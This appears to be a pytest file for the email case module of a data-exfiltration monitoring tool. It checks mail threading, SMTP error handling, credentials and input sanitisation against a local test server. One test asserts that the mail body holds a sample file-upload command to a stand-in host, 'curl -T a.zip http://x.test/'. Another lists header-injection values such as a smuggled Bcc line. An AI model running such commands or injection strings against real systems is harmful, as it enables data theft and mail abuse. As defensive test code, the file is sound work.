"""Mails, as a real SMTP server takes them."""

import asyncio
from collections.abc import Iterator
from contextlib import contextmanager
from email import message_from_bytes, policy
from email.message import EmailMessage
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP, AuthResult, Envelope, LoginPassword, Session
from pydantic import ValidationError

from exfilwatch.errors import CaseBlocked, CaseRefused, CaseUnreachable
from exfilwatch.findings.incident import group
from exfilwatch_playbooks.cases.body import news
from exfilwatch_playbooks.cases.case import Attachment
from exfilwatch_playbooks.cases.mail import Mail
from exfilwatch_playbooks.cases.system import Created

from ..findings.made import make  # noqa: TID252 (tests are no package on the path)
from ..hostile_corpus import CORPUS, LONG  # noqa: TID252
from ..rendered import Page  # noqa: TID252
from .drafted import a_draft


def run(what: Any) -> Any:
    return asyncio.run(what)


class Mailbox:
    """What a mail server took; `answer` is its reply to the text of a mail."""

    def __init__(self) -> None:
        self.mails: list[EmailMessage] = []
        self.answer = "250 OK"

    async def handle_DATA(self, server: SMTP, session: Session, envelope: Envelope) -> str:  # noqa: N802
        content = envelope.content if isinstance(envelope.content, bytes) else b""
        if self.answer.startswith("250"):
            mail = message_from_bytes(content, policy=policy.default)
            assert isinstance(mail, EmailMessage)
            self.mails.append(mail)
        return self.answer

    async def handle_RCPT(  # noqa: N802
        self, server: SMTP, session: Session, envelope: Envelope, address: str, options: list[str]
    ) -> str:
        if address.startswith("nobody"):
            return "550 no such user"
        envelope.rcpt_tos.append(address)
        return "250 OK"


class _Controller(Controller):
    def _trigger_server(self) -> None:
        self.port = self.server.sockets[0].getsockname()[1]  # it was asked for any
        super()._trigger_server()


@contextmanager
def smtp(box: Mailbox, **options: Any) -> Iterator[int]:
    controller = _Controller(box, hostname="127.0.0.1", port=0, **options)
    controller.start()
    try:
        yield controller.port
    finally:
        controller.stop()


def mailer(port: int, **more: Any) -> Mail:
    settings = {"kind": "email", "host": "127.0.0.1", "port": port, "security": "none", "sender": "soc@corp.test"}
    return Mail("mail", Mail.Settings.model_validate({**settings, "to": "team@corp.test", **more}))


def test_a_case_is_a_mail_with_the_text_twice_and_later_news_are_replies():
    box, wanted = Mailbox(), a_draft()
    more = make("b", 5)
    (incident,) = group([make("a"), more])
    note = news(incident, [make("a")], [more])
    file = Attachment(stem="evidence", suffix=".jsonl", media="application/x-ndjson", content=b'{"a": 1}\n')
    with smtp(box) as port:
        mail = mailer(port)
        assert run(mail.create(wanted)) == Created(wanted.key)
        assert run(mail.add_note(wanted.key, note))
        assert run(mail.attach(wanted.key, file))
    first, second, third = box.mails
    assert first["Subject"] == f"[exfilwatch] {wanted.title}"
    assert second["In-Reply-To"] == third["References"] == first["Message-ID"]
    assert second["Subject"] == f"[exfilwatch] Re: {wanted.title}"
    assert len({each["Message-ID"] for each in box.mails}) == 3
    plain, html = first.get_body(("plain",)), first.get_body(("html",))
    assert plain is not None
    assert html is not None
    assert "    curl -T a.zip http://x.test/" in plain.get_content()
    assert "<pre>\ncurl -T a.zip http://x.test/</pre>" in html.get_content().replace("\r\n", "\n")
    (attached,) = third.iter_attachments()
    assert (attached.get_filename(), attached.get_content()) == (file.name, file.content)


def test_the_same_case_told_again_is_the_same_mail():
    box, wanted = Mailbox(), a_draft()
    with smtp(box) as port:
        run(mailer(port).create(wanted))
        run(mailer(port).create(wanted))
    assert box.mails[0]["Message-ID"] == box.mails[1]["Message-ID"]


def test_hostile_text_makes_no_header_no_part_and_no_second_mail():
    box = Mailbox()
    texts = [*CORPUS[::60], *list(LONG.values())[::5]]
    with smtp(box, enable_SMTPUTF8=False) as port:
        mail = mailer(port)
        for number, text in enumerate(texts):
            run(mail.create(a_draft(text, f"h{number}", host=text[:200], user=text[:200], Image=text[:200])))
    assert len(box.mails) == len(texts)
    expected = set(box.mails[0].keys())
    for mail in box.mails:
        assert set(mail.keys()) == expected
        assert [part.get_content_type() for part in mail.walk()] == ["multipart/alternative", "text/plain", "text/html"]
        assert "\n" not in mail["Subject"]
        html = mail.get_body(("html",))
        assert html is not None
        assert not {"img", "script", "a", "svg", "iframe", "b"} & set(Page(html.get_content()).tags)


def test_the_server_is_asked_for_sender_and_recipients_without_a_mail():
    box = Mailbox()
    with smtp(box) as port:
        assert run(mailer(port).probe()).where == f"127.0.0.1:{port}"
        with pytest.raises(CaseBlocked, match="nobody@corp"):
            run(mailer(port, to="nobody@corp.test").probe())
        with pytest.raises(CaseBlocked, match="nobody@corp"):
            run(mailer(port, to="nobody@corp.test").create(a_draft()))
    assert box.mails == []


def test_credentials_that_are_not_taken_are_a_persons_to_mend():
    def known(server: SMTP, session: Session, envelope: Envelope, mechanism: str, data: Any) -> AuthResult:
        right = isinstance(data, LoginPassword) and data.password == b"right"
        return AuthResult(success=right, handled=False)

    with smtp(Mailbox(), authenticator=known, auth_require_tls=False) as port:
        assert run(mailer(port, user="soc", password="right").probe()).who == "soc"
        with pytest.raises(CaseBlocked, match="credentials"):
            run(mailer(port, user="soc", password="wrong").probe())


@pytest.mark.parametrize(
    ("answer", "error", "sent"),
    [
        ("451 try later", CaseUnreachable, False),
        ("421 too many", CaseUnreachable, False),
        ("452 full", CaseRefused, None),
        ("552 too large", CaseRefused, None),
        ("554 spam", CaseRefused, None),
    ],
)
def test_what_a_server_answers_is_told_apart(answer, error, sent):
    box = Mailbox()
    box.answer = answer
    with smtp(box) as port, pytest.raises(error) as raised:
        run(mailer(port).create(a_draft()))
    assert getattr(raised.value, "sent", None) is sent


def test_a_server_that_is_not_there_was_sent_nothing():
    with smtp(Mailbox()) as port:
        pass
    with pytest.raises(CaseUnreachable) as raised:
        run(mailer(port).create(a_draft()))
    assert not raised.value.sent


def test_settings_that_would_send_in_the_open_or_elsewhere_are_refused():
    with pytest.raises(CaseBlocked, match="starttls"):
        mailer(25, host="mail.corp.test")
    for wrong in ("a@b\r\nBcc: c@d", "no-address", "a@b, c@d\n", "a b@c"):
        with pytest.raises(ValidationError):
            mailer(25, to=[wrong])
